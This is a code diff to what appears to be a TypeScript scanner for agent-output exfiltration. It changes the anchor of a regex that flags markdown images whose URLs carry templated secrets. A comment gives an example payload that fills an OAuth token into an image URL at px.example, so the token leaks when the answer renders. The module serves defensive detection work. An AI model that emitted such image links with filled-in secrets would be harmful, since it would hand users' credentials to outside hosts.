@@ -124,7 +124,8 @@ export const EXFIL_PROSE: readonly LinePattern[] = [
   {
     // `![](https://px.example/o.gif?k={{oauth_access_token}})`: the agent fills the template, the image loads when
     // the answer renders, and the secret goes with it (a URL's own literal key is the API docs' business).
-    anchor: String.raw`!\[`,
+    // Anchored on the templated value, rare in prose (images are not).
+    anchor: String.raw`=\{`,
     re: new RegExp(
       String.raw`!\[[^\]\n]{0,200}\]\(\s*<?https?:\/\/[^\s)]{0,300}?[?&][\w-]{1,30}=\{\{?\s*[\w.-]{0,40}?`
       + String.raw`(?:token|secret|password|passwd|api_?key|apikey|cookie|credential)s?[\w.-]{0,40}\s*\}\}?`,
